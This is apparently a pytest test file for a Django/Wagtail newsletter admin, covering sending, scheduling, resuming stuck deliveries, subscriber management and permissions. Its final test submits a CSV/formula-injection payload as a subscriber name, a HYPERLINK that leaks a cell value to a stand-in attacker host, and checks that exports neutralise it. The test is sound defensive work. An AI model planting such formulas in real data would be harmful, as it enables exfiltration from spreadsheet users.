from datetime import timedelta

import pytest
from django.utils import timezone

from route2020.core.tests.factories import PASSWORD
from route2020.newsletter.models import Dispatch, Subscriber

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor_client(client, make_user):
    editor = make_user(role="Redactie", email="redacteur@example.org")
    editor.is_superuser = True  # page permissions for the whole tree, as the bureau has
    editor.save()
    client.login(username=editor.username, password=PASSWORD)
    return client


def test_send_from_the_admin_shows_progress(
    editor_client, make_issue, make_subscriber, mailoutbox, django_capture_on_commit_callbacks
):
    issue = make_issue(title="Reisflits januari")
    make_subscriber(email="lezer@example.org")
    url = f"/beheer/reisflitsen/{issue.pk}/"

    page = editor_client.get(url).content.decode()
    assert "Nu verzenden" in page and "Testmail naar mij sturen" in page

    with django_capture_on_commit_callbacks(execute=True):
        editor_client.post(url, {"action": "test"})
    assert mailoutbox[-1].to == ["redacteur@example.org"]
    assert mailoutbox[-1].subject == "[TEST] Reisflits januari"
    assert not Dispatch.objects.exists()

    editor_client.post(url, {"action": "send"})  # not confirmed
    assert not Dispatch.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(url, {"action": "send", "confirm": "1"})
    assert response.status_code == 302
    assert [m.to for m in mailoutbox[1:]] == [["lezer@example.org"]]
    page = editor_client.get(url).content.decode()
    assert "1 van 1 verzonden · 0 mislukt" in page
    overview = editor_client.get("/beheer/reisflitsen/").content.decode()
    assert "Reisflits januari" in overview and "1 / 1" in overview


def test_schedule_from_the_admin(editor_client, make_issue, make_subscriber):
    issue = make_issue()
    url = f"/beheer/reisflitsen/{issue.pk}/"
    past = (timezone.localtime() - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")
    response = editor_client.post(url, {"action": "schedule", "send_at": past})
    assert "Kies een moment in de toekomst." in response.content.decode()
    assert not Dispatch.objects.exists()
    future = (timezone.localtime() + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    editor_client.post(url, {"action": "schedule", "send_at": future})
    assert Dispatch.objects.get().status == Dispatch.Status.SCHEDULED
    editor_client.post(url, {"action": "cancel"})
    assert Dispatch.objects.get().status == Dispatch.Status.CANCELLED


def test_draft_issue_asks_to_publish_first(editor_client, make_issue, make_subscriber):
    issue = make_issue(live=False)
    response = editor_client.post(
        f"/beheer/reisflitsen/{issue.pk}/", {"action": "send", "confirm": "1"}
    )
    assert "Publiceer de Reisflits eerst" in response.content.decode()
    assert not Dispatch.objects.exists()


def test_page_listing_has_send_button_and_mail_preview(editor_client, make_issue, newsletter_index):
    issue = make_issue()
    listing = editor_client.get(f"/beheer/pages/{newsletter_index.pk}/").content.decode()
    assert f"/beheer/reisflitsen/{issue.pk}/" in listing
    preview = editor_client.get(f"/beheer/reisflitsen/{issue.pk}/e-mail/")
    assert preview.status_code == 200 and "<table" in preview.content.decode()


def test_subscribers_in_the_admin(editor_client, make_subscriber):
    make_subscriber(email="zichtbaar@example.org")
    response = editor_client.get("/beheer/reisflitsen_abonnees/")
    assert "zichtbaar@example.org" in response.content.decode()
    editor_client.post(
        "/beheer/reisflitsen_abonnees/new/",
        {"email": "handmatig@example.org", "name": "", "organisation": "", "status": "confirmed"},
    )
    assert Subscriber.objects.get(email="handmatig@example.org").link_key


def test_members_cannot_send(client, make_user, make_issue):
    member = make_user(role="Lid")
    client.login(username=member.username, password=PASSWORD)
    issue = make_issue()
    response = client.post(f"/beheer/reisflitsen/{issue.pk}/", {"action": "send", "confirm": "1"})
    assert response.status_code in (302, 403)
    assert not Dispatch.objects.exists()


def test_editor_sees_an_unsent_issue_online(editor_client, client, make_issue):
    issue = make_issue(title="Nog geheim")
    assert "Nog geheim" in editor_client.get(issue.url).content.decode()


def test_page_editor_header_links_to_sending(editor_client, make_issue):
    issue = make_issue()
    edit = editor_client.get(f"/beheer/pages/{issue.pk}/edit/")
    assert edit.status_code == 200
    assert f"/beheer/reisflitsen/{issue.pk}/" in edit.content.decode()


@pytest.mark.parametrize(
    ("stuck", "message"),
    [
        (1, "Hervat: 1 bericht opnieuw in de wachtrij."),
        (2, "Hervat: 2 berichten opnieuw in de wachtrij."),
    ],
)
def test_resume_says_how_many_messages_went_back_in_the_queue(
    editor_client, make_issue, make_subscriber, django_capture_on_commit_callbacks, stuck, message
):
    from route2020.newsletter.models import Delivery

    issue = make_issue(title="Reisflits februari")
    long_ago = timezone.now() - timedelta(hours=2)
    Dispatch.objects.create(
        issue=issue,
        status=Dispatch.Status.SENDING,
        started_at=long_ago,
        heartbeat_at=long_ago,
    )
    for _ in range(stuck):  # claimed by a worker that died
        Delivery.objects.create(
            issue=issue,
            subscriber=make_subscriber(),
            status=Delivery.Status.CLAIMED,
            claim="dood",
            leased_at=long_ago,
        )
    with django_capture_on_commit_callbacks(execute=False):
        response = editor_client.post(
            f"/beheer/reisflitsen/{issue.pk}/", {"action": "resume"}, follow=True
        )
    assert message in response.content.decode()
    assert Delivery.objects.filter(status=Delivery.Status.QUEUED).count() == stuck


def test_a_regiogids_does_not_see_the_reisflitsen_index(client, make_user, make_issue):
    """Issue 11, finding 12: issues and their delivery counts are for the office only."""
    make_issue(title="Reisflits januari")
    guide = make_user(role="Regiogids", provinces=["PV23"])
    client.force_login(guide)
    response = client.get("/beheer/reisflitsen/", follow=True)
    # Wagtail answers a refusal with a redirect to the dashboard and a message.
    assert response.redirect_chain == [("/beheer/", 302)]
    html = response.content.decode()
    assert "Reisflits januari" not in html
    assert "/beheer/reisflitsen/" not in html


def test_subscriber_export_defuses_formulas_typed_at_sign_up(
    editor_client, newsletter_index, themes, django_capture_on_commit_callbacks
):
    """Issue 11 finding 4: Wagtail's export of the subscribers viewset, CSV and XLSX."""
    import io

    from django.test import Client
    from openpyxl import load_workbook

    name = '=HYPERLINK("https://evil.example/?d="&A2,"klik")'
    with django_capture_on_commit_callbacks(execute=True):
        Client().post(
            "/reisflitsen/",
            {"email": "lezer@example.org", "name": name, "organisation": "+31 6 1234"},
        )
    assert Subscriber.objects.get().name == name

    response = editor_client.get("/beheer/reisflitsen_abonnees/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    row = next(line for line in text.splitlines() if line.startswith("lezer@example.org"))
    assert ",\"'=HYPERLINK(" in row and ",'+31 6 1234," in row

    response = editor_client.get("/beheer/reisflitsen_abonnees/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "'" + name in values and "'+31 6 1234" in values
